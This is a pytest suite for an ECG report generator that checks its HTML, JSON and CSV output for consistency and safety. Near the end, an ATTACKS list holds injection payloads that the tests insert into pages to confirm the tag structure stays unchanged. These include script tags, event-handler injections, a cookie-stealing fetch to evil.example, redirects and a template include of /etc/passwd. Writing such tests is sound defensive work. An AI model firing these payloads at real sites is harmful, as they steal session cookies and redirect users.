"""Reports: pages say what the JSON says and run no script; tables keep every record."""

from __future__ import annotations

import csv
import hashlib
import io
import json
import re
from base64 import b64encode
from html.parser import HTMLParser
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import jsonschema
import numpy as np
import pytest

from ecgbatch.figures.by_patient import FIGURES
from ecgbatch.measurements.quantities import LEAD_QUANTITIES, QUANTITIES
from ecgbatch.reports import cohort_page, tables
from ecgbatch.reports.cohort import write_cohort
from ecgbatch.reports.excerpts import Excerpt
from ecgbatch.reports.lead_columns import LEAD_COLUMNS
from ecgbatch.reports.record_page import Drawn, record_page
from ecgbatch.reports.writing import COUNTS, record_slugs, report_workspace
from ecgbatch.terms import LEAD_FLAGS, NOTICE
from storage import TEXT, folder_at, open_store
from tests.reports.report_runs import LEAD, SCRIPT, reported_run

ROOT = Path(__file__).resolve().parents[2]


class Page(HTMLParser):
    """Tags, links, visible words and the values of ``data`` elements of a page."""

    def __init__(self, text: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.words: list[str] = []
        self.values: list[tuple[float, str]] = []
        self.rows: dict[str, list[float | None]] = {}
        self._value: float | None = None
        self._row = ""
        self.feed(text)

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        self.tags.append((tag, attributes))
        if tag == "tr":
            self._row = attributes.get("id") or ""
        if tag == "data":
            self._value = float(attributes["value"])

    def handle_endtag(self, tag):
        if tag == "tr":
            self._row = ""

    def handle_data(self, data):
        self.words.append(data)
        if self._value is not None:
            self.values.append((self._value, data))
            self.rows.setdefault(self._row, []).append(self._value)
            self._value = None

    @property
    def text(self) -> str:
        return re.sub(r"\s+", " ", "".join(self.words))


def numbers_of(document: Any) -> set[float]:
    if isinstance(document, dict):
        return set().union(*map(numbers_of, document.values()), {float(len(document))})
    if isinstance(document, list):
        return set().union(*map(numbers_of, document), {float(len(document))})
    return {float(document)} if isinstance(document, (int, float)) and not isinstance(document, bool) else set()


@pytest.fixture(scope="module")
def ran(tmp_path_factory) -> SimpleNamespace:
    return reported_run(tmp_path_factory.mktemp("reports"))


def cohort_facts(ran: SimpleNamespace) -> dict[str, np.ndarray]:
    """What ``write_cohort`` needs of each record, from the records' JSON."""
    rows = []
    for name in ran.names:
        report = ran.records[name]
        flags = np.array([sum(LEAD_FLAGS[flag] for flag in lead) for lead in report["leads"].values()], np.int64)
        known = {"slug": ran.slugs[name], "recording_year": -1} | tables.listed_facts(report)
        known |= tables.lead_facts(list(report["leads"]), flags, is_set_aside=report["status"] == "set_aside")
        known |= {name: np.nan if value is None else value for name, value in tables.measured_facts(None).items()}
        rows.append(report | known | {"duration_s": report["duration_s"] or np.nan})
    return {name: np.array([row[name] for row in rows], dtype) for name, dtype in tables.FACTS.items()}


def page_of(ran: SimpleNamespace, name: str) -> str:
    return (ran.folder / "records" / f"{ran.slugs[name]}.html").read_text()


def all_pages(ran: SimpleNamespace) -> list[str]:
    return [(ran.folder / "cohort.html").read_text(), *(page_of(ran, name) for name in ran.names)]


@pytest.mark.parametrize("kind", ["record", "cohort"])
def test_written_json_validates_against_its_published_schema(ran, kind):
    schema = json.loads((ROOT / "docs" / "schema" / f"{kind}.json").read_text())
    jsonschema.Draft202012Validator.check_schema(schema)
    validator = jsonschema.Draft202012Validator(schema)
    for document in [ran.cohort] if kind == "cohort" else ran.records.values():
        validator.validate(document)


def test_every_record_has_page_json_and_row_and_the_cohort_links_them(ran):
    assert set(ran.records) == set(ran.names)
    page = Page((ran.folder / "cohort.html").read_text())
    links = {attributes["href"] for tag, attributes in page.tags if tag == "a" and not attributes["href"].startswith("#")}
    assert {f"records/{ran.slugs[name]}.html" for name in ran.names} <= links
    assert all((ran.folder / link).is_file() for link in links)
    assert (Path(ran.work) / "reports" / "latest").resolve() == ran.folder.resolve()


def test_every_number_on_a_record_page_is_in_its_json(ran):
    for name, report in ran.records.items():
        known = numbers_of(report)
        known |= {100 * value for value in known}  # shares shown in per cent
        page = Page(page_of(ran, name))
        assert page.values
        for value, shown in page.values:
            assert value in known, (name, value)
            assert float(shown) == pytest.approx(value, abs=0.51 * 10.0 ** -len(shown.partition(".")[2]))


def test_every_number_on_the_cohort_page_is_in_the_json_or_a_record(ran):
    page = Page((ran.folder / "cohort.html").read_text())
    known = numbers_of(ran.cohort) | numbers_of(list(ran.records.values()))
    assert {value for value, _ in page.values} <= known
    for name in FIGURES:
        figure = ran.cohort[name]
        assert page.rows[name] == [figure[key] for key in ("value", "low", "high", "n_patients") if figure[key] is not None]


def test_counts_of_the_cohort_add_up(ran):
    found = ran.cohort
    assert found["n_records"] == len(ran.names) == sum(found["decisions"].values())
    assert found["n_not_scorable"] == found["n_records"] - found["n_scored"] == found["decisions"]["not_scorable"]
    assert found["n_not_scorable"] == sum(found["not_scorable_reasons"].values())
    assert found["n_set_aside"] == {"DAT_TRUNCATED": 1}
    assert sum(found["needs_look"].values()) == sum(found["quality"].values()) == found["n_records"]
    assert found["n_readable"] == found["n_records"] - 1
    assert found["n_partial"] >= 1
    assert sum(map(sum, found["histogram"]["counts"].values())) == found["n_scored"]
    assert found["participants"]["all"]["n_patients"] == found["n_patients"]
    assert sum(found["participants"]["all"]["sex"].values()) == found["n_patients"]
    counts = {name: found[name] for name in COUNTS}
    assert ran.said["counts"] == counts


def test_pages_run_no_script_but_one_of_their_own_and_reach_nothing_outside(ran):
    for text in all_pages(ran):
        page = Page(text)
        tags = {tag for tag, _ in page.tags}
        assert not tags & {"img", "iframe", "object", "embed", "link", "form", "base", "foreignobject"}
        scripts = re.findall(r"<script>(.*?)</script>", text, re.S)
        assert len(scripts) == 1
        policy = next(a["content"] for tag, a in page.tags if tag == "meta" and a.get("http-equiv") == "Content-Security-Policy")
        assert policy.startswith("default-src 'none'")
        hashes = [b64encode(hashlib.sha256(script.encode()).digest()).decode() for script in scripts]
        assert re.findall(r"script-src ([^;]+)", policy) == [f"'sha256-{value}'" for value in hashes]
        assert "unsafe" not in policy
        for _, attributes in page.tags:
            assert not [name for name in attributes if name.startswith("on") or name == "style"]
            assert not re.match(r"(?i)(https?:|//|javascript:|data:)", attributes.get("href") or "")


def test_text_of_an_attacking_header_is_shown_as_text(ran):
    report = ran.records[ran.evil]
    assert report["diagnosis"] == SCRIPT
    assert SCRIPT in Page(page_of(ran, ran.evil)).text
    assert LEAD in report["leads"]
    assert LEAD in Page(page_of(ran, ran.evil)).text


def test_notice_is_at_top_and_bottom_and_synthetic_data_are_called_so(ran):
    for text in all_pages(ran):
        assert text.count(NOTICE) == 2
        assert "Synthetic data" in text
    assert ran.cohort["is_synthetic"] is True


def test_page_of_a_record_set_aside_says_why_and_draws_no_ecg(ran):
    report, text = ran.records[ran.broken], page_of(ran, ran.broken)
    assert report["status"] == "set_aside"
    assert report["mi_probability"] is None
    assert report["decision"] == "not_scorable"
    assert report["reason"] == "DAT_TRUNCATED"
    for words in ("Not scorable", report["reason"], "What to do", "No ECG is drawn"):
        assert words in text
    assert 'aria-label="ECG of' not in text
    set_aside = (ran.folder / "cohort.html").read_text().partition("Records without a score")[2].partition("</table>")[0]
    assert report["reason"] in set_aside
    assert ran.broken in set_aside


def test_page_says_why_these_seconds_which_rhythm_lead_and_one_rate(ran):
    name = next(name for name in ran.names if name not in (ran.broken, ran.partial, ran.evil))
    report, text = ran.records[name], Page(page_of(ran, name)).text
    assert report["excerpt"]["why"] == "the whole recording"
    assert report["excerpt"]["rhythm_lead"] == "II"
    assert report["excerpt"]["end_s"] == report["excerpt"]["start_s"] + report["excerpt"]["length_s"] == 8.0
    assert report["strips"] is None
    assert "The whole recording" not in text
    assert report["rate"] == {
        "bpm": report["measurements"]["heart_rate_bpm"]["value"],
        "of": "excerpt",
        "meaning": "median of the whole recording",
        "other_bpm": None,
    }
    assert f"Heart rate {report['rate']['bpm']:.0f}/min: median of the whole recording." in text


def test_partial_record_is_scored_and_says_which_leads_are_absent(ran):
    report = ran.records[ran.partial]
    assert report["status"] == "partial"
    assert report["mi_probability"] is not None
    assert report["leads"]["Vx"] == ["missing"]
    assert report["n_leads_usable"] == 12
    assert "absent" in page_of(ran, ran.partial)


@pytest.mark.parametrize("is_scored", [True, False])
def test_cohort_without_labels_says_unknown(ran, tmp_path, is_scored):
    scores = ran.scores.drop_vars(["beat_probability", "evidence"])
    scores = scores.assign(mi=scores["mi"] * 0 - 1, label=scores["label"] * 0)
    if not is_scored:
        scores = scores.assign(mi_probability=scores["mi_probability"] * np.nan)
    options = {key: ran.cohort[key] for key in ("model", "run", "created", "archive", "is_synthetic")}
    paths = write_cohort(folder_at(tmp_path), scores, cohort_facts(ran), options)
    found = json.loads(Path(paths["cohort_json"]).read_text())
    assert all(found[name]["value"] is None for name in FIGURES)
    text = Path(paths["cohort_html"]).read_text()
    assert "discrimination and calibration are unknown" in text
    assert ("Distribution of the records" in text) is is_scored


def test_parquet_and_csv_hold_every_record_with_the_stores_values(ran):
    import pyarrow.parquet as pq

    table = pq.read_table(ran.folder / "scores.parquet")
    with (ran.folder / "scores.csv").open(newline="") as file:
        rows = list(csv.DictReader(file))
    assert table.column_names == [*tables.COLUMNS, *LEAD_COLUMNS]
    assert list(rows[0]) == list(tables.COLUMNS)
    assert table["record_name"].to_pylist() == ran.names == [row["record_name"] for row in rows]
    assert table.schema.metadata[b"notice"].decode() == NOTICE
    stored = ran.scores["mi_probability"].values
    in_csv = [np.float32(row["mi_probability"] or "nan") for row in rows]
    np.testing.assert_array_equal(np.array(table["mi_probability"].to_pylist(), np.float32), stored)
    np.testing.assert_array_equal(np.array(in_csv), stored)
    decisions = {name: report["decision"] for name, report in ran.records.items()}
    assert dict(zip(ran.names, table["decision"].to_pylist(), strict=True)) == decisions


def test_measurements_of_page_json_and_table_are_those_of_the_store_that_the_scores_name(ran):
    import pyarrow.parquet as pq

    table = pq.read_table(ran.folder / "scores.parquet")
    stores = {
        digest: open_store(Path(ran.work, "measurements", f"{digest}.zarr"))
        for digest in set(table["measurements_store"].to_pylist())
    }
    assert table["measurements_store"].to_pylist() == ran.scores["measurements_store"].values.tolist()
    n_values = 0
    for place, name in enumerate(ran.names):
        digest, row = str(ran.scores["measurements_store"].values[place]), int(ran.scores["beats_row"].values[place])
        stored, told = stores[digest].isel(record=row), ran.records[name]["measurements"]
        assert str(stored["record_name"].values) == name
        assert ran.records[name]["provenance"]["measurements_store"] == digest
        words = Page(page_of(ran, name)).text
        for column, quantity in tables.MEASURED.items():
            value = stored[quantity].values.item()
            assert np.array_equal(np.float32(table[column][place].as_py() or np.nan), np.float32(value or np.nan), equal_nan=True)
            if told is None:
                assert np.isnan(value)
                continue
            known = told[quantity]["value"]
            assert np.array_equal(np.float32(np.nan if known is None else known), np.float32(value), equal_nan=True)
            n_values += known is not None
            assert f"{QUANTITIES[quantity].title}{'not measured' if known is None else f'{known:.0f}'}" in words
        for lead, of_lead in (told or {"leads": {}})["leads"].items():
            at = stores[digest]["lead"].values.tolist().index(lead)
            for quantity in LEAD_QUANTITIES:
                known = np.float32(np.nan if of_lead[quantity] is None else of_lead[quantity])
                assert np.array_equal(known, stored[quantity].values[at], equal_nan=True)
        excerpt = ran.records[name]["excerpt"]
        span = [float(stored[f"excerpt_{part}"].values) for part in ("start_s", "length_s")]
        np.testing.assert_array_equal(span, [excerpt["start_s"], excerpt["length_s"]] if excerpt else [np.nan] * 2)
    assert n_values > 5 * len(ran.names)


def test_csv_disarms_formulas_and_parquet_keeps_the_text(ran):
    import pyarrow.parquet as pq

    place = ran.names.index(ran.evil)
    with (ran.folder / "scores.csv").open(newline="") as file:
        assert list(csv.DictReader(file))[place]["diagnosis"] == f"'{SCRIPT}"
    assert pq.read_table(ran.folder / "scores.parquet")["diagnosis"].to_pylist()[place] == SCRIPT


@pytest.mark.parametrize("mark", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cell_that_starts_like_a_formula_gets_an_apostrophe(mark):
    table = tables.csv_lines([[f"{mark}1", f"a{mark}1"], [-1, None]])
    assert next(csv.reader(io.StringIO(table, newline=""))) == [f"'{mark}1", "-1"]
    assert f"'a{mark}1" not in table


def test_documented_columns_are_those_written():
    documented = dict(re.findall(r"^\| `(\w+)` \| (.*) \|$", (ROOT / "docs/schema/README.md").read_text(), re.M))
    assert documented == dict(tables.COLUMNS)


def test_reports_made_again_are_kept(ran):
    before = {path: path.stat().st_mtime_ns for path in (ran.folder / "records").iterdir()}
    cohort_json = (ran.folder / "cohort.json").read_bytes()
    others = [(ran.folder / name).read_bytes() for name in ("cohort.html", "scores.csv", "scores.parquet")]
    report_workspace(ran.work, ran.run)
    assert {path: path.stat().st_mtime_ns for path in before} == before
    assert (ran.folder / "cohort.json").read_bytes() == cohort_json
    assert [(ran.folder / name).read_bytes() for name in ("cohort.html", "scores.csv", "scores.parquet")] == others


def test_slugs_are_safe_different_and_independent_of_order():
    names = ["a/b", "a__b", "A/b", "../x", ".hidden", "con", "ä ö", "p/s1", "x" * 300]
    slugs = record_slugs(names)
    assert slugs["p/s1"] == "p__s1"
    assert len({slug.casefold() for slug in slugs.values()}) == len(names)
    for slug in slugs.values():
        assert re.fullmatch(r"[A-Za-z0-9_-][A-Za-z0-9._-]*", slug)
        assert len(slug) < 200
        assert slug.casefold() not in {"con", "nul"}
    assert record_slugs(reversed(names)) == slugs


ATTACKS = [
    template.format(call)
    for call in ("alert(1)", "fetch('//evil.example/'+document.cookie)", "location='https://evil.example'", "eval(name)")
    for template in (
        "<script>{}</script>",
        "</title><script>{}</script>",
        "</style><script>{}</script>",
        "</svg><script>{}</script>",
        "<img src=x onerror={}>",
        '"><svg onload="{}">',
        "' autofocus onfocus='{}",
        '" onmouseover="{}',
        '<a href="javascript:{}">x</a>',
        "<iframe src=//evil.example srcdoc='<script>{}</script>'>",
        "<style>@import 'https://evil.example/{}'</style>",
        "<link rel=stylesheet href=https://evil.example/{}>",
        "<base href=https://evil.example/><form action={}>",
        "<meta http-equiv=refresh content='0;url=https://evil.example/{}'>",
        "{{{{ 7 * 7 }}}}{{% include '/etc/passwd' %}}{}",
        "-->]]><script>{}</script>\u202e\x00\x1b[2J",
    )
]


def attacked(value: Any, attack: str, kept: frozenset[str]) -> Any:
    """The same document with every free text, and every lead's name, replaced by an attack."""
    if isinstance(value, dict):
        free = {key: value[key] for key in value if key not in kept}
        return {key: attacked(entry, attack, kept) for key, entry in free.items()} | {k: value[k] for k in value if k in kept}
    if isinstance(value, list):
        return [attacked(entry, attack, kept) for entry in value]
    return attack if isinstance(value, str) else value


def shape(text: str) -> list[tuple[str, tuple[str, ...]]]:
    return [(tag, tuple(attributes)) for tag, attributes in Page(text).tags]


@pytest.mark.parametrize("which", ["partial", "broken"])
def test_sixty_attacks_in_every_text_of_a_record_change_no_tag_of_its_page(ran, which):
    report = ran.records[getattr(ran, which)]
    names = [f"lead {number}" for number in range(len(report["leads"]))]
    words = frozenset({"status", "decision", "label", "sex", "flags", "notice"})
    flags = tuple(sum(LEAD_FLAGS[word] for word in lead) for lead in report["leads"].values())
    signal = np.zeros((len(names), 1000), np.float32)

    def drawn(text: str) -> str:
        leads = {f"{text}{name}": flags for name, flags in zip(names, report["leads"].values(), strict=True)}
        excerpt = Excerpt(signal, tuple(leads), flags, 0.0, 250.0)
        changed = attacked(report, text, words) | {"leads": leads, "warnings": [text] * len(report["warnings"])}
        with_ecg = {"excerpt": excerpt} if report["excerpt"] else {}
        return record_page(changed, Drawn(**with_ecg))

    assert len(ATTACKS) >= 60
    expected = shape(drawn("harmless"))
    for attack in ATTACKS:
        page = drawn(attack)
        assert shape(page) == expected, attack
        assert "\u202e" not in page
        assert "\x00" not in page


def test_attacks_in_every_text_of_a_cohort_change_no_tag_of_its_page(ran):
    def drawn(text: str) -> str:
        everywhere = np.full(len(ran.names), text, TEXT)
        scores = ran.scores.assign(record_name=("record", everywhere), patient_id=("record", everywhere))
        facts = cohort_facts(ran) | dict.fromkeys(("diagnosis", "infarct_location", "reason_detail"), everywhere)
        document = ran.cohort | {"archive": text, "diagnoses": [{"diagnosis": text, "n_records": 10}]}
        return cohort_page.cohort_page(document, tables.Table(scores, facts)).decode()

    expected = shape(drawn("harmless"))
    for attack in ATTACKS:
        assert shape(drawn(attack)) == expected, attack
